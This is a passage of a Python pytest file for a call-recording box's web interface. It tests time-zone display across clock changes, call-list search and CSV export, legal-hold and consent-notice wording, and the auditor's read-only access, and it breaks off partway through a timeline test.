"""Issue 12: the web UI for the people who use it.

Times in the box's zone (and across a GMT/BST change), plain words, the calls
list's number/name/tag search, total, pages both ways and CSV export, the
phonebook, tags and notes, the auditor's read-only view and a help page for
every screen in the menu.
"""

import csv
import html
import io
import json
import re
import sqlite3

import pytest

from firmware import words
from firmware.calls.calllog import iso_ms
from firmware.localtime import LocalTime, duration_text
from firmware.policy.callmeta import CallMeta

from support.web import T0_US, S, ids, page

# 2026-03-29: the clocks go forward at 01:00 UTC (GMT -> BST).
BEFORE_BST_US = 1_774_744_200_000_000  # 2026-03-29T00:30:00Z = 00:30 GMT
AFTER_BST_US = 1_774_747_800_000_000  # 2026-03-29T01:30:00Z = 02:30 BST
ISO_TIME = re.compile(r"\d{4}-\d\d-\d\d[T ]\d\d:\d\d")


def add_call(box, started_us, number, name=None, line=1, direction="in", **extra):
    db = sqlite3.connect(box.data_dir + "/calls.db")
    cols = dict(
        line=line,
        direction=direction,
        started_at=started_us,
        answered_at=started_us + 5 * S,
        ended_at=started_us + 65 * S,
        clock_synced=1,
        number=number,
        name=name,
        **extra,
    )
    cur = db.execute(
        "INSERT INTO calls (%s) VALUES (%s)" % (", ".join(cols), ", ".join("?" * len(cols))),
        list(cols.values()),
    )
    db.commit()
    db.close()
    return cur.lastrowid


def set_zone(box, client, zone):
    from web.site import form_values

    web = box.web
    form = form_values(web.site.settings(), box.LINES)
    form["time_zone"] = zone
    resp = box.post(client, "/settings", form, token_from="/settings")
    assert resp.status_code == 302, resp.get_data(as_text=True)


# ---------------------------------------------------------------- time


def test_formats():
    local = LocalTime("Europe/London")
    assert local.when(T0_US + 340 * S) == "Mon 2 Mar 2026, 09:05:40 GMT"
    assert local.when(BEFORE_BST_US) == "Sun 29 Mar 2026, 00:30:00 GMT"
    assert local.when(AFTER_BST_US) == "Sun 29 Mar 2026, 02:30:00 BST"
    import datetime

    day = datetime.date(2026, 3, 29)
    assert (
        local.day_start_us(day + datetime.timedelta(days=1)) - local.day_start_us(day) == 23 * 3600 * S
    )  # the day the clocks go forward
    assert duration_text(252) == "4 min 12 s" and duration_text(3720) == "1 h 2 min"
    assert LocalTime.ago(T0_US, T0_US + 180 * S) == "3 min ago"
    with pytest.raises(ValueError):
        LocalTime("Mars/Olympus_Mons")


def test_every_time_is_in_the_box_zone_and_follows_a_change(box, people):
    before = add_call(box, BEFORE_BST_US, "01632960001")
    after = add_call(box, AFTER_BST_US, "01632960002")
    alice = people["alice"]
    listed = page(alice, "/calls")
    assert "Sun 29 Mar 2026, 00:30:00 GMT" in listed
    assert "Sun 29 Mar 2026, 02:30:00 BST" in listed
    assert "Mon 2 Mar 2026, 09:00:00 GMT" in listed
    set_zone(box, alice, "America/New_York")
    assert "Sat 28 Mar 2026, 21:30:00 EDT" in page(alice, "/calls/%d" % after)
    assert "Sat 28 Mar 2026, 20:30:00 EDT" in page(alice, "/calls/%d" % before)
    # A day searched is the box's day: 28 March in New York holds both calls.
    assert set(ids(page(alice, "/calls?from=2026-03-28&to=2026-03-28"))) == {before, after}
    # Storage and JSON stay UTC.
    call = box.services.calls.get(after)
    assert call["started_at"] == "2026-03-29T01:30:00.000Z"
    # The pages looked at since are audited as looks: the last change is the zone's.
    assert [a for a in box.audit_actions() if a not in ("call_viewed", "list_viewed")][-1] == "config_change"


def test_no_page_shows_a_raw_timestamp(box, people):
    box.status.set(
        1,
        "ringing",
        {
            "direction": "in",
            "number": "01632960777",
            "name": None,
            "absence": None,
            "started_at": "2026-03-02T09:00:00.000Z",
        },
    )
    box.status._lines[1]["since"] = "2026-03-02T09:00:00.000Z"
    for name, urls in (
        (
            "alice",
            [
                "/",
                "/calls",
                "/calls/1",
                "/settings",
                "/users",
                "/retention",
                "/retention/deletions",
                "/phonebook",
            ],
        ),
        ("audrey", ["/audit", "/calls", "/calls/2", "/users"]),
    ):
        for url in urls:
            html = page(people[name], url)
            assert not ISO_TIME.search(html), (url, ISO_TIME.search(html).group(0))
    dash = page(people["alice"], "/")
    assert "Mon 2 Mar 2026, 09:00:00 GMT" in dash
    status = people["alice"].get("/api/status").get_json()
    assert status["now"] == "2026-03-02T09:00:00.000Z"  # JSON stays UTC


# ---------------------------------------------------------------- plain words


def test_plain_words_on_the_dashboard_and_audit_trail(box, people):
    box.status._lines[2]["faults"] = ["no_line_voltage"]
    box.status.set(2, "fault")
    dash = page(people["alice"], "/")
    assert "No voltage on the line" in dash and "no_line_voltage" not in dash
    assert "Not recorded: line fault" in dash
    trail = page(people["audrey"], "/audit")
    assert "Logged in" in trail and "Changed settings" in trail
    assert "{'" not in trail and "': " not in trail  # no Python dicts
    assert re.search(r"<dt>Recording key unlocked</dt><dd>yes</dd>", trail)
    assert words.say("state", "cleared") == "Other party hung up"
    assert words.say("alarm", "a_new_alarm") == "A new alarm"


def test_the_dashboard_says_whether_each_line_records_now(box, people):
    from .test_pause import FakeLive

    box.services.live = FakeLive()
    box.status.set(1, "connected", {"direction": "in", "number": "01632960777", "policy_decision": "record"})
    box.status.set(
        3,
        "connected",
        {
            "direction": "out",
            "number": "01632960111",
            "policy_decision": "skip",
            "policy_reason": "outbound calls are not recorded",
        },
    )
    dash = page(people["sam"], "/")  # a supervisor of lines 1 and 2
    row1 = re.search(r'<tr id="line-1".*?</tr>', dash, re.S).group(0)
    row2 = re.search(r'<tr id="line-2".*?</tr>', dash, re.S).group(0)
    assert 'id="line-3"' not in dash  # not his line
    row3 = re.search(r'<tr id="line-3".*?</tr>', page(people["ivan"], "/"), re.S).group(0)
    assert 'data-recording="recording"' in row1 and 'id="pause-1"' in row1
    assert "disabled" not in row1.split('id="pause-1"')[1].split(">")[0]
    # The button keeps its place, disabled (and hidden): rows never change under the pointer.
    assert 'data-recording="none"' in row2 and 'id="pause-2"' in row2
    assert "disabled" in row2.split('id="pause-2"')[1].split(">")[0]
    assert "Not recorded: outbound calls are not recorded" in row3
    assert 'aria-live="polite"' in dash


def test_a_number_rule_is_not_named_to_those_not_granted_the_line(box, people):
    """The rule's name says who is calling ("Union rep - confidential"): not shown to
    installers and auditors, on the dashboard and in /api/status (other lines'
    supervisors see no line 1 at all)."""
    reason = 'number excluded by rule "Union rep - confidential"'
    box.status.set(1, "connected", {"direction": "in", "policy_decision": "skip", "policy_reason": reason})
    for name in ("ivan", "audrey"):
        for path in ("/", "/api/status"):
            text = people[name].get(path).get_data(as_text=True)
            assert "Union rep" not in text, (name, path)
            assert "Not recorded: a number rule" in text, (name, path)
    assert "Union rep - confidential" in html.unescape(page(people["sam"], "/"))  # line 1's supervisor


# ---------------------------------------------------------------- calls list


def test_number_search_in_any_form(box, people):
    target = add_call(box, T0_US + 3000 * S, "01632960777")
    intl = add_call(box, T0_US + 3100 * S, "+441632960777")
    for typed in ("+44 1632 960777", "01632 960777", "01632960777", "0044 (1632) 960-777"):
        for match in ("contains", "prefix"):
            found = set(ids(page(people["alice"], "/calls?" + _q(number=typed, match=match))))
            assert target in found, (typed, match)
            if match == "contains":
                assert intl in found, typed
    assert ids(page(people["alice"], "/calls?number=960777")) == [intl, target]


def test_search_by_time_of_day_in_the_box_zone(box, people):
    """Thursday afternoon, in summer time: the times typed are the box's wall clock (BST),
    both ends included, and the CSV holds the same calls."""
    thu = 1_775_131_200_000_000  # 2026-04-02T12:00:00Z, 13:00 BST
    before = add_call(box, thu - 5 * 60 * S, "01632960701")  # 12:55 BST
    first = add_call(box, thu + 10 * 60 * S, "01632960702")  # 13:10 BST
    last = add_call(box, thu + 119 * 60 * S + 30 * S, "01632960703")  # 14:59:30 BST
    after = add_call(box, thu + 121 * 60 * S, "01632960704")  # 15:01 BST
    add_call(box, thu + 60 * 60 * S, "01632960705", line=3)  # 14:00 BST, not sam's line
    friday = add_call(box, thu + 86400 * S + 30 * 60 * S, "01632960706")  # Friday 13:30 BST
    query = _q(**{"from": "2026-04-02", "from_time": "13:00", "to": "2026-04-02", "to_time": "14:59"})
    assert ids(page(people["sam"], "/calls?" + query)) == [last, first]
    assert 'value="13:00"' in page(people["sam"], "/calls?" + query)  # the form keeps what was asked
    rows = list(csv.DictReader(io.StringIO(page(people["sam"], "/calls.csv?" + query))))
    assert [int(r["id"]) for r in rows] == [last, first]
    # A time on one end only: the other end is as a day's (here: no end at all).
    asked = _q(**{"from": "2026-04-02", "from_time": "12:55"})
    assert ids(page(people["sam"], "/calls?" + asked)) == [friday, after, last, first, before]


@pytest.mark.parametrize(
    "asked, field, message",
    [
        ({"from_time": "13:00"}, "from_time", "Choose the day of this time too (From)."),
        ({"to": "2026-04-02", "to_time": "25:00"}, "to_time", "Enter a time of day as HH:MM, 24-hour"),
        ({"from": "2026-04-02", "from_time": "1pm"}, "from_time", "Enter a time of day as HH:MM, 24-hour"),
        (
            {"from": "2026-04-02", "from_time": "15:00", "to": "2026-04-02", "to_time": "13:00"},
            "to",
            "The end is before the start.",
        ),
    ],
)
def test_a_time_that_names_no_moment_is_refused_with_what_was_wrong(box, people, asked, field, message):
    resp = people["sam"].get("/calls?" + _q(**asked))
    text = resp.get_data(as_text=True)
    assert resp.status_code == 400 and ids(text) == []
    assert re.search(r'id="error-%s" role="alert">%s' % (field, re.escape(html.escape(message))), text)
    assert people["sam"].get("/calls.csv?" + _q(**asked)).status_code == 400


def test_the_weekends_missed_calls_are_found_on_the_lines_granted(box, people):
    """Monday morning: which calls nobody answered over the weekend (days in the box's
    zone), on the supervisor's own lines only; the count and the CSV say the same."""
    sat = 1_775_286_000_000_000  # 2026-04-04T07:00:00Z, Saturday 08:00 BST
    missed = add_call(box, sat, "07700900401")
    answered = add_call(box, sat + 3600 * S, "07700900402", line=2)
    other_line = add_call(box, sat + 7200 * S, "07700900403", line=3)
    sunday_late = add_call(box, sat + 40 * 3600 * S + 30 * 60 * S, "07700900404", line=2)  # Mon 00:30 BST
    db = sqlite3.connect(box.data_dir + "/calls.db")
    db.execute("UPDATE calls SET answered_at = NULL WHERE id IN (?, ?, ?)", (missed, other_line, sunday_late))
    db.commit()
    db.close()
    weekend = {"from": "2026-04-04", "to": "2026-04-05"}
    listed = page(people["sam"], "/calls?" + _q(answered="no", **weekend))
    assert ids(listed) == [missed] and re.search(r"<strong>1</strong> call matches", listed)
    assert 'value="no" selected' in listed  # the form keeps what was asked
    assert ids(page(people["sam"], "/calls?" + _q(answered="yes", **weekend))) == [answered]
    rows = list(
        csv.DictReader(io.StringIO(page(people["sam"], "/calls.csv?" + _q(answered="no", **weekend))))
    )
    assert [int(r["id"]) for r in rows] == [missed] and rows[0]["talk_time_s"] == ""
    resp = people["sam"].get("/calls?" + _q(answered="maybe", **weekend))
    assert resp.status_code == 400 and ids(resp.get_data(as_text=True)) == []
    assert "Choose answered, not answered, or either." in resp.get_data(as_text=True)


def test_a_time_the_clocks_go_back_over_is_taken_whole():
    """01:30 on 25 October 2026 happens twice in London: a search from it starts at the
    first, one to it ends after the second."""
    import datetime

    clock = LocalTime("Europe/London")
    day, t = datetime.date(2026, 10, 25), datetime.time(1, 30)
    first, second = clock.minute_start_us(day, t), clock.minute_start_us(day, t, last=True)
    assert clock.when(first).endswith("01:30:00 BST") and clock.when(second).endswith("01:30:00 GMT")
    assert second - first == 3600 * S


def test_a_time_the_clocks_skip_is_one_moment_whichever_end_it_is(box, people):
    """01:30 on 29 March 2026 never happens in London (01:00 GMT is 02:00 BST): read as the
    clock before the change would have shown it, 02:30 BST, at the start of a search and at
    its end alike. Its end was read an hour earlier, 00:30 GMT: a search from 01:30 to 01:30
    was refused as ending before it began, and one to 02:45 missed the calls after 02:00 BST."""
    import datetime

    clock = LocalTime("Europe/London")
    day, t = datetime.date(2026, 3, 29), datetime.time(1, 30)
    start, end = clock.minute_start_us(day, t), clock.minute_start_us(day, t, last=True)
    assert clock.when(start).endswith("02:30:00 BST") and end == start
    at_0230_bst = 1_774_747_800_000_000  # 2026-03-29T01:30:00Z
    call = add_call(box, at_0230_bst + 20 * S, "01632960707")
    asked = _q(**{"from": "2026-03-29", "from_time": "01:30", "to": "2026-03-29", "to_time": "01:30"})
    assert ids(page(people["sam"], "/calls?" + asked)) == [call]


def _q(**kw):
    from urllib.parse import urlencode

    return urlencode(kw, doseq=True)


def test_search_by_caller_name_and_phonebook_name_and_tag(box, people):
    smith = add_call(box, T0_US + 3000 * S, "01632960500", name="J SMITH")
    book = add_call(box, T0_US + 3100 * S, "01632960600")
    alice = people["alice"]
    resp = box.post(
        alice, "/phonebook", {"number": "+44 1632 960600", "name": "Acme Supplies"}, token_from="/phonebook"
    )
    assert resp.status_code == 302
    assert ids(page(alice, "/calls?name=smith")) == [smith]
    listed = page(alice, "/calls?name=acme")
    assert ids(listed) == [book] and "Acme Supplies" in listed and "phonebook" in listed
    CallMeta(box.data_dir + "/calls.db").add_tags(3, ["complaint"])
    tagged = page(alice, "/calls?tag=complaint")
    assert ids(tagged) == [3] and "<option selected>complaint</option>" in tagged


def test_total_and_pages_both_ways(box, people, monkeypatch):
    from web.views import calls

    monkeypatch.setattr(calls, "PAGE", 7)
    alice = people["alice"]
    html = page(alice, "/calls?line=1&line=2")
    assert re.search(r"<strong>20</strong> calls match", html)
    seen, pages = [], [html]
    while True:
        seen += ids(html)
        m = re.search(r'href="([^"]+)" id="next-page"', html)
        if not m:
            break
        html = page(alice, m.group(1).replace("&amp;", "&"))
        pages.append(html)
    assert len(seen) == 20 and seen == sorted(seen, reverse=True) and len(pages) == 3
    assert 'id="prev-page"' not in pages[0]
    back = []
    while True:
        m = re.search(r'href="([^"]+)" id="prev-page"', html)
        if not m:
            break
        html = page(alice, m.group(1).replace("&amp;", "&"))
        back.append(ids(html))
    assert back == [ids(pages[1]), ids(pages[0])]


def test_csv_export_round_trips_the_filtered_list(box, people):
    alice = people["alice"]
    listed = ids(page(alice, "/calls?line=2&direction=out"))
    resp = alice.get("/calls.csv?line=2&direction=out")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert [int(r["id"]) for r in rows] == listed and listed
    assert all(r["line"] == "2" and r["direction"] == "out" for r in rows)
    assert rows[0]["started_at"].endswith("Z")  # UTC in exports
    entry = box.services.audit.entries(limit=1)[0]
    assert entry.action == "export_list" and entry.details["rows"] == len(listed)
    assert entry.details["filter"] == {"line": "2", "direction": "out"}


def test_csv_export_says_why_each_call_was_recorded_who_was_told_and_the_pauses(box, people):
    """The evidence an inspector asks of each call leaves in the list's CSV too:
    the recording rule's reason, the consent notice and the card-details pauses
    (they were only on each call's page)."""
    told = add_call(
        box,
        T0_US + 3000 * S,
        "01632960777",
        policy_decision="record",
        policy_reason="line 1 records every call",
        consent=json.dumps(
            {"notice": "announcement", "given": True, "at": "2026-03-02T09:50:05.000Z", "duration_s": 7.0}
        ),
        pause_spans=json.dumps(
            [
                {"from": "2026-03-02T09:50:20.000Z", "to": "2026-03-02T09:50:32.500Z", "by": "dtmf"},
                {"from": "2026-03-02T09:50:40.000Z", "to": "2026-03-02T09:50:42.000Z", "by": "web"},
            ]
        ),
    )
    failed = add_call(
        box,
        T0_US + 3100 * S,
        "01632960778",
        policy_decision="skip",
        policy_reason="the consent notice could not be given",
        consent=json.dumps({"notice": "tone", "given": False, "error": "no audio"}),
    )
    rows = {
        int(r["id"]): r
        for r in csv.DictReader(io.StringIO(people["audrey"].get("/calls.csv").get_data(as_text=True)))
    }
    assert rows[told]["policy_reason"] == "line 1 records every call"
    assert (rows[told]["consent_notice"], rows[told]["consent_given"]) == ("announcement", "yes")
    assert rows[told]["consent_at"] == "2026-03-02T09:50:05.000Z"
    assert rows[told]["paused_s"] == "14.5"
    assert (rows[failed]["consent_notice"], rows[failed]["consent_given"]) == ("tone", "no")
    assert rows[failed]["paused_s"] == "0.0"
    assert rows[1]["consent_notice"] == rows[1]["consent_given"] == ""  # no notice was due


def test_csv_export_says_a_call_whose_only_notice_was_the_warning_tone_was_told_by_its_beeps(box, people):
    """Consent notices off, the warning tone on: the CSV gave every such call notice "off",
    given "no", even one whose beeps told the people on it, where the reports count it as
    given (and one whose first beep could not sound as failed, not off)."""
    first = iso_ms(T0_US + 3405 * S)
    beeped = add_call(
        box, T0_US + 3400 * S, "01632960780", policy_decision="record",
        consent=json.dumps({"notice": "off", "given": False, "warning_tones": 4,
                            "warning_tone_interval_s": 15, "warning_tone_first_at": first}),
    )  # fmt: skip
    untold = add_call(
        box, T0_US + 3500 * S, "01632960781", policy_decision="skip",
        consent=json.dumps({"notice": "off", "given": False, "warning_tones": 0,
                            "warning_tone_interval_s": 15, "warning_tone_error": "no audio"}),
    )  # fmt: skip
    off = add_call(
        box, T0_US + 3600 * S, "01632960782", policy_decision="record",
        consent=json.dumps({"notice": "off", "given": False}),
    )  # fmt: skip
    rows = {
        int(r["id"]): r
        for r in csv.DictReader(io.StringIO(people["audrey"].get("/calls.csv").get_data(as_text=True)))
    }
    told = rows[beeped]
    assert (told["consent_notice"], told["consent_given"]) == ("warning_tone", "yes")
    assert told["consent_at"] == first
    assert (rows[untold]["consent_notice"], rows[untold]["consent_given"]) == ("warning_tone", "no")
    assert rows[untold]["consent_at"] == ""
    assert (rows[off]["consent_notice"], rows[off]["consent_given"]) == ("off", "no")


def test_csv_export_counts_a_pause_the_call_ended_in_up_to_the_calls_end(box, people):
    """A pause a restart cut keeps no end ("to": null; the call was closed at its last
    evidence): the recording is silent from the pause to the call's end, and the CSV
    says so, not 0 seconds paused."""
    cut = add_call(
        box,
        T0_US + 3200 * S,
        "01632960779",
        policy_decision="record",
        pause_spans=json.dumps([{"from": iso_ms(T0_US + 3220 * S), "to": None, "by": "dtmf"}]),
    )
    rows = {
        int(r["id"]): r
        for r in csv.DictReader(io.StringIO(people["audrey"].get("/calls.csv").get_data(as_text=True)))
    }
    assert rows[cut]["paused_s"] == "45.0"  # from 20 s in to the end at 65 s


def test_csv_export_does_not_say_record_of_a_call_the_box_could_not_record(box, people):
    """A call the rules would record on a box with no recording key yet was exported as
    ``policy_decision`` ``record``, while nothing was recorded and the report counted it
    apart: the column says what happened, the reason column why."""
    from firmware.policy.rules import NOT_SET_UP

    reason = "line 1 records every call; " + NOT_SET_UP
    early = add_call(box, T0_US + 3000 * S, "01632960779", policy_decision="record", policy_reason=reason)
    why = "line 1 records every call"
    later = add_call(box, T0_US + 3100 * S, "01632960780", policy_decision="record", policy_reason=why)
    rows = {
        int(r["id"]): r
        for r in csv.DictReader(io.StringIO(people["audrey"].get("/calls.csv").get_data(as_text=True)))
    }
    assert (rows[early]["policy_decision"], rows[early]["policy_reason"]) == ("before_setup", reason)
    assert rows[early]["recording"] == ""
    assert rows[later]["policy_decision"] == "record"


@pytest.mark.parametrize("before_setup", [True, False])
def test_a_call_before_setup_says_no_notice_had_been_chosen_not_that_notices_were_turned_off(
    box, people, before_setup
):
    """Answered before the setup wizard chose a notice, a call's page said "No notice:
    consent notices were turned off", which an auditor reads as the business's doing."""
    from firmware.policy.rules import NO_NOTICE

    why = "line 1 records every call; " + NO_NOTICE if before_setup else "calls on line 1 are not recorded"
    call_id = add_call(
        box,
        T0_US + 3000 * S,
        "01632960779",
        policy_decision="record" if before_setup else "skip",
        policy_reason=why,
        consent=json.dumps({"notice": "off", "given": False}),
    )
    page = html.unescape(people["sam"].get("/calls/%d" % call_id).get_data(as_text=True))
    chosen = "No notice: none had been chosen yet (the box's setup was not finished)"
    assert (chosen in page, "consent notices were turned off" in page) == (before_setup, not before_setup)


def test_csv_export_says_which_calls_are_on_legal_hold_and_since_when(box, people):
    """A legal hold was only on each call's page: the list's CSV now says which calls
    are held (never deleted while held) and since when (UTC, as the other times)."""
    meta = CallMeta(box.data_dir + "/calls.db")
    try:
        meta.set_legal_hold(3, True, "sam", T0_US + 86400 * S)
        meta.set_legal_hold(4, True, "sam", T0_US)
        meta.set_legal_hold(4, False, "sam", T0_US)  # released: not held any more
    finally:
        meta.close()
    text = people["audrey"].get("/calls.csv").get_data(as_text=True)
    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(text))}
    assert (rows[3]["legal_hold"], rows[3]["legal_hold_since"]) == ("yes", iso_ms(T0_US + 86400 * S))
    assert (rows[4]["legal_hold"], rows[4]["legal_hold_since"]) == ("no", "")
    assert {r["legal_hold"] for i, r in rows.items() if i != 3} == {"no"}
    # Added after the columns a sheet may already read by position.
    header = text.splitlines()[0]
    assert header.endswith(",paused_s,legal_hold,legal_hold_since,digits_withheld,corrected_name")


def test_the_list_says_which_calls_are_on_legal_hold(box, people):
    """As `linekeeper calls` and the CSV say it: a supervisor who held a call for a complaint
    sees it held in the list, not only on its own page."""
    box.add_recordings([3, 7])
    meta = CallMeta(box.data_dir + "/calls.db")
    try:
        meta.set_legal_hold(3, True, "sam", T0_US)
    finally:
        meta.close()
    listed = page(people["audrey"], "/calls")
    recording = {
        int(i): re.sub("<[^>]+>", "", cell)
        for i, cell in re.findall(
            r'<tr id="call-(\d+)">.*?<td data-label="Recording">(.*?)</td>', listed, re.S
        )
    }
    assert recording[3] == "Complete, held" and recording[7] == "Complete"
    # A call never recorded reads "No recording", as `linekeeper calls` says it: it said "None".
    assert {recording[i] for i in recording if i not in (3, 7)} == {"No recording"}


def test_the_calls_on_legal_hold_are_listed_on_the_lines_granted(box, people):
    """Which calls are being kept for a complaint or a dispute, to release each once it is
    closed: the list, its count and its CSV, on the supervisor's own lines only."""
    meta = CallMeta(box.data_dir + "/calls.db")
    try:
        for call_id in (5, 3, 2):  # 3 is on line 3: sue's, not sam's
            meta.set_legal_hold(call_id, True, "sam", T0_US)
        meta.set_legal_hold(9, True, "sam", T0_US)
        meta.set_legal_hold(9, False, "sam", T0_US)  # released: not held any more
    finally:
        meta.close()
    listed = page(people["sam"], "/calls?held=yes")
    assert ids(listed) == [5, 2] and re.search(r"<strong>2</strong> calls match", listed)
    assert '<option value="yes" selected>on legal hold' in listed
    rows = list(csv.DictReader(io.StringIO(page(people["sam"], "/calls.csv?held=yes"))))
    assert [(int(r["id"]), r["legal_hold"]) for r in rows] == [(5, "yes"), (2, "yes")]
    not_held = ids(page(people["sam"], "/calls?held=no&line=1"))
    assert 5 not in not_held and 9 in not_held and 1 in not_held
    assert ids(page(people["sue"], "/calls?held=yes")) == [3]
    resp = people["sam"].get("/calls?held=maybe")
    assert resp.status_code == 400 and "Choose on legal hold, not held, or either." in resp.get_data(
        as_text=True
    )


def test_the_call_page_says_since_when_by_whom_and_why_a_call_is_held(box, people):
    """Which complaint a call is kept for, who placed the hold and when, beside the hold's
    control and among the call's facts (an auditor has no control), in the box's time zone
    as the page's other times: before, it said only "on legal hold"."""
    sam = people["sam"]
    set_zone(box, people["alice"], "America/New_York")
    box.clock.advance(2 * 60 + 5)
    assert box.post(sam, "/calls/2/hold", {"on": "1", "hold_reason": "complaint ref 1234"}).status_code == 302
    box.clock.advance(60)  # read later: the page says when it was placed, not now
    said = "since Mon 2 Mar 2026, 04:02:05 EST, placed by sam: complaint ref 1234"
    text = html.unescape(page(sam, "/calls/2"))
    assert re.search(r'<p id="held-since">(.*?)</p>', text).group(1) == "On legal hold %s." % said
    facts = html.unescape(page(people["audrey"], "/calls/2"))
    assert 'id="held-since"' not in facts and 'id="hold-form"' not in facts
    assert re.search(r'<dd id="f-hold">(.*?)</dd>', facts).group(1) == (
        '<strong id="on-hold">on legal hold</strong> %s. Never deleted while held.' % said
    )
    # Released, then held again by sue: the hold in force is told, not sam's earlier one; no
    # entry of sue's placed it (a hold from before a reason was asked), so no reason.
    released = {"on": "0", "hold_reason": "complaint 1234 closed"}
    assert box.post(sam, "/calls/2/hold", released).status_code == 302
    box.services.recordings.set_legal_hold(2, True, by="sue")
    text = html.unescape(page(sam, "/calls/2"))
    assert re.search(r'<p id="held-since">(.*?)</p>', text).group(1) == (
        "On legal hold since Mon 2 Mar 2026, 04:03:05 EST, placed by sue."
    )


def test_auditor_reads_calls_and_users_but_never_audio(box, people):
    audrey = people["audrey"]
    assert len(ids(page(audrey, "/calls"))) == 40  # every line
    call_page = page(audrey, "/calls/1")
    assert "<audio" not in call_page and 'id="export-form"' not in call_page
    assert 'id="tag-form"' not in call_page
    assert audrey.get("/calls/1/audio").status_code == 403
    users = page(audrey, "/users")
    assert "sam" in users and "<form" not in users.split("<main")[1].split("</main>")[0]
    assert box.post(audrey, "/calls/1/tags", {"add": "x"}).status_code == 403


# ---------------------------------------------------------------- phonebook, tags, notes


def test_phonebook_never_hides_the_caller_id_name(box, people):
    call_id = add_call(box, T0_US + 3000 * S, "01632960777", name="J SMITH")
    sam = people["sam"]
    box.post(sam, "/phonebook", {"number": "01632 960777", "name": "Acme Ltd"}, token_from="/phonebook")
    html = page(sam, "/calls/%d" % call_id)
    assert "J SMITH" in html and "(Acme Ltd, phonebook)" in html
    assert "Acme Ltd" in page(sam, "/calls")
    # Then the call's page opened, then the calls list shown.
    assert box.audit_actions()[-3:] == ["phonebook", "call_viewed", "list_viewed"]


def test_a_notice_the_caller_hung_up_during_is_shown_cut_short(box, people):
    consent = {"notice": "announcement", "given": True, "at": "2026-03-02T09:50:05.000Z",
               "duration_s": 7.0, "cut_short": True, "heard_s": 2.0}  # fmt: skip
    call = add_call(box, T0_US + 3000 * S, "01632960500", consent=json.dumps(consent))
    facts = page(people["alice"], "/calls/%d" % call)
    shown = re.search(r'id="f-consent">(.*?)</dd>', facts, re.S).group(1)
    assert (
        "Spoken announcement cut short" in shown
        and "2 s into its 7 s" in shown
        and "did not hear all" in shown
    )
    assert "which is the proof" not in shown


@pytest.mark.parametrize(
    "decision, said",
    [
        ("skip", ", and nothing was recorded."),
        ("record", "; the call was recorded all the same, as the box is set to record a call whose notice"),
    ],
)
def test_a_call_nobody_was_heard_on_after_dialling_is_not_shown_as_a_notice_failure(
    box, people, decision, said
):
    """An outbound call whose far end was never heard after the dial timeout got no notice,
    as nobody was there to hear it: the page said, in error style, that the notice "could NOT
    be given", as if the announcement had failed."""
    consent = {"notice": "announcement", "given": False, "unheard": True,
               "error": "nobody was heard on the line after the dialling: it was not played"}  # fmt: skip
    call = add_call(box, T0_US + 3000 * S, "01632960500", direction="out", policy_decision=decision,
                    consent=json.dumps(consent))  # fmt: skip
    facts = page(people["alice"], "/calls/%d" % call)
    shown = re.search(r'id="f-consent">(.*?)</dd>', facts, re.S).group(1)
    assert "No notice: nobody was heard on the line after dialling, so none was played" + said in shown
    assert "NOT" not in shown and "error" not in shown


@pytest.mark.parametrize(
    "decision, said",
    [
        ("skip", ", and nothing was recorded."),
        ("record", "; the call was recorded all the same, as the box is set to record a call whose notice"),
    ],
)
def test_a_call_paused_before_its_far_end_was_heard_says_so_not_as_a_failure(box, people, decision, said):
    """An outbound call paused (card details) after the dial timeout's answer and before
    anything of the far end was heard got no notice: the box heard nothing of the paused
    line. The page said, in error style, that the notice "could NOT be given"."""
    consent = {"notice": "announcement", "given": False, "paused": True,
               "error": "the line was paused (card details) before the far end was heard, and the box "
                        "hears nothing of a paused line: it was not played"}  # fmt: skip
    call = add_call(box, T0_US + 3100 * S, "01632960501", direction="out", policy_decision=decision,
                    consent=json.dumps(consent))  # fmt: skip
    facts = page(people["alice"], "/calls/%d" % call)
    shown = re.search(r'id="f-consent">(.*?)</dd>', facts, re.S).group(1)
    assert (
        "No notice: the line was paused (card details) before the far end was heard, and the box "
        "hears nothing of a paused line, so none was played" + said in shown
    )
    assert "NOT" not in shown and "error" not in shown


def test_a_call_whose_only_notice_was_the_warning_tone_says_the_beeps_it_heard(box, people):
    """Consent notices off, the warning tone on: the beeps were the notice, yet the page said
    "No notice: consent notices were turned off." as if nobody had been told."""
    consent = {"notice": "off", "given": False, "warning_tones": 4, "warning_tone_interval_s": 15,
               "warning_tone_first_at": iso_ms(T0_US + 3200 * S)}  # fmt: skip
    call = add_call(
        box, T0_US + 3200 * S, "01632960502", policy_decision="record", consent=json.dumps(consent)
    )
    facts = page(people["alice"], "/calls/%d" % call)
    shown = re.search(r'id="f-consent">(.*?)</dd>', facts, re.S).group(1)
    assert (
        "Warning tone every 15 s (first at Mon 2 Mar 2026, 09:53:20 GMT): 4 beeps during the call, "
        "its only notice" in shown
    )
    assert "No notice" not in shown and "NOT" not in shown


@pytest.mark.parametrize(
    "decision, said",
    [
        ("skip", ", and the call was not recorded."),
        ("record", "; the call was recorded all the same, as the box is set to record a call whose notice"),
    ],
)
def test_a_call_whose_only_notice_the_beep_could_not_sound_says_nobody_was_told(box, people, decision, said):
    """The first beep of a call with no other notice could not be played: nobody was told,
    and the call was not recorded (docs/policy.md). The page said the notices were off."""
    consent = {"notice": "off", "given": False, "warning_tones": 0, "warning_tone_interval_s": 15,
               "warning_tone_error": "the playback device is gone"}  # fmt: skip
    call = add_call(
        box, T0_US + 3300 * S, "01632960503", policy_decision=decision, consent=json.dumps(consent)
    )
    facts = page(people["alice"], "/calls/%d" % call)
    shown = re.search(r'id="f-consent">(.*?)</dd>', facts, re.S).group(1)
    assert (
        "Warning tone could NOT be played: the playback device is gone. It was the only notice "
        "(consent notices were turned off), so nobody on the call was told" + said in shown
    )
    assert "No notice" not in shown


def _timeline_items(client, call):
    """The call page's timeline list: (kind, its text) of each event."""
    shown = page(client, "/calls/%d" % call)
    listed = re.search(r'<ol class="tl-list" id="timeline-list">(.*?)</ol>', shown, re.S).group(1)
    return [
        (kind, re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", "", text))).strip())
        for kind, text in re.findall(r'<li class="tl-item tl-([\w-]+)"[^>]*>(.*?)</li>', listed, re.S)
    ]


def test_the_timeline_shows_the_warning_tones_first_beep_and_a_first_that_failed(box, people):
    """The timeline showed the notice as an event but not the warning tone, which on a call
    with no other notice is the notice: its first beep, at the answer, and one that could
    not be played (nobody was told) are events too, at their times."""
    start = T0_US + 3700 * S  # answered 5 s in (add_call)
